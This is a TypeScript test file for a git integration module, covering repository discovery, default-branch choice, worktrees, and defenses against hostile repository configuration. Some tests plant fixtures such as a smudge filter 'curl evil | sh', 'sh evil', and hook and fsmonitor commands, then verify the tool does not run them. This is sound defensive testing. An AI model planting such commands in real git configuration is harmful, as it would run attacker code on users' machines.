import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { defaultTarget, findRepo, operationInProgress, userFilters, worktrees } from '../../src/platform/git/repository.ts';
import { git } from '../../src/platform/git/run.ts';
import { parseUserConfig } from '../../src/platform/git/user.ts';
import { gitRepo } from './repo.ts';

function emptyFolder(): Disposable & { path: string } {
  const path = realpathSync(mkdtempSync(join(tmpdir(), 'furrow-none-')));
  return { path, [Symbol.dispose]: () => rmSync(path, { recursive: true, force: true }) };
}

describe('a repository', () => {
  it('is found from a folder in it and from its worktrees', async () => {
    await using repo = await gitRepo();
    repo.sh(['worktree', 'add', '-q', '-b', 'x', '.furrow/w']);
    for (const from of [repo.root, join(repo.root, 'src'), join(repo.root, '.furrow/w'), join(repo.root, '.furrow/w/src')]) {
      expect(await findRepo(from)).toEqual({ root: repo.root, gitDir: join(repo.root, '.git') });
    }
  });

  it.each([
    ['no repository', 'NOT_A_REPOSITORY', () => {}],
    ['a bare one', 'BARE_REPOSITORY', (path: string) => execFileSync('git', ['init', '-q', '--bare', path])],
    ['one without commits', 'NO_COMMITS', (path: string) => execFileSync('git', ['init', '-q', path])],
    ['no folder', 'NO_SUCH_FOLDER', (path: string) => rmSync(path, { recursive: true })],
  ])('%s is told as such', async (_what, code, make) => {
    using folder = emptyFolder();
    make(folder.path);
    await expect(findRepo(folder.path)).rejects.toMatchObject({ code });
  });

  it('lands on the remote’s default branch, else main, else master, else the branch that is checked out', async () => {
    await using repo = await gitRepo();
    repo.sh(['checkout', '-q', '-b', 'trunk']);
    expect(await defaultTarget(repo)).toMatchObject({ branch: 'main' });
    repo.sh(['update-ref', 'refs/remotes/origin/elsewhere', 'HEAD']);
    repo.sh(['symbolic-ref', 'refs/remotes/origin/HEAD', 'refs/remotes/origin/elsewhere']);
    expect(await defaultTarget(repo), 'a branch that is not here').toMatchObject({ branch: 'main' });
    repo.sh(['update-ref', 'refs/remotes/origin/trunk', 'HEAD']);
    repo.sh(['symbolic-ref', 'refs/remotes/origin/HEAD', 'refs/remotes/origin/trunk']);
    expect(await defaultTarget(repo)).toMatchObject({ branch: 'trunk' });
    repo.sh(['symbolic-ref', '--delete', 'refs/remotes/origin/HEAD']);
    repo.sh(['branch', '-q', '--move', 'main', 'master']);
    expect(await defaultTarget(repo)).toMatchObject({ branch: 'master' });
    repo.sh(['branch', '-q', '-D', 'master']);
    expect(await defaultTarget(repo)).toMatchObject({ branch: 'trunk' });
    repo.sh(['checkout', '-q', '--detach']);
    repo.sh(['branch', '-q', '-D', 'trunk']);
    await expect(defaultTarget(repo)).rejects.toMatchObject({ code: 'DETACHED_HEAD' });
  });

  it('lists its worktrees with branch and lock', async () => {
    await using repo = await gitRepo();
    repo.sh(['worktree', 'add', '-q', '-b', 'x', '.furrow/w']);
    repo.sh(['worktree', 'add', '-q', '--detach', '--lock', '--reason', 'mine now', '.furrow/a b']);
    const head = repo.sh(['rev-parse', 'HEAD']);
    expect(await worktrees(repo)).toEqual([
      { path: repo.root, head, branch: 'refs/heads/main', locked: null, prunable: false },
      { path: join(repo.root, '.furrow/a b'), head, branch: null, locked: 'mine now', prunable: false },
      { path: join(repo.root, '.furrow/w'), head, branch: 'refs/heads/x', locked: null, prunable: false },
    ]);
  });

  it('tells a merge under way, and the commands its configuration would run', async () => {
    await using repo = await gitRepo();
    expect(await operationInProgress(repo.gitDir)).toBeUndefined();
    writeFileSync(join(repo.gitDir, 'MERGE_HEAD'), repo.sh(['rev-parse', 'HEAD']));
    expect(await operationInProgress(repo.gitDir)).toBe('merge');
    repo.sh(['config', 'filter.lfs.clean', 'git-lfs clean -- %f']);
    expect(await userFilters(repo)).toEqual([]);
    repo.sh(['config', 'filter.lfs.smudge', 'curl evil | sh']);
    repo.sh(['config', 'filter.x.process', 'x']);
    expect((await userFilters(repo)).sort()).toEqual(['filter.lfs.smudge', 'filter.x.process']);
  });
});

describe('git as we run it', () => {
  it('ignores what the user’s own git ignores', () => {
    expect(parseUserConfig('', '/h', undefined).flags).toEqual(['core.excludesFile=/h/.config/git/ignore']);
    expect(parseUserConfig('core.excludesfile\n~/ig\0core.autocrlf\ninput\0alias.x\n!rm\0', '/h', '/x').flags).toEqual([
      'core.excludesFile=/h/ig',
      'core.autocrlf=input',
    ]);
    expect(parseUserConfig('user.name\nAda\0user.email\na@b\0', '/h', '/x').identity).toEqual({ name: 'Ada', email: 'a@b' });
    expect(parseUserConfig('filter.lfs.clean\ngit-lfs clean -- %f\0filter.lfs.smudge\nsh evil\0', '/h', '/x').flags).toHaveLength(2);
  });

  it('runs nothing that the repository’s configuration plants', async () => {
    await using repo = await gitRepo();
    const canary = join(repo.root, 'CANARY');
    mkdirSync(join(repo.gitDir, 'hooks'), { recursive: true });
    writeFileSync(join(repo.gitDir, 'hooks/post-checkout'), `#!/bin/sh\ntouch '${canary}'\n`, { mode: 0o755 });
    repo.sh(['config', 'core.fsmonitor', `touch '${canary}'; false`]);
    await git(repo, ['status', '--porcelain']);
    await git(repo, ['checkout', '-q', '-b', 'other']);
    expect(await git(repo, ['ls-files', '--others', '--exclude-standard'])).toBe('');
  });
});
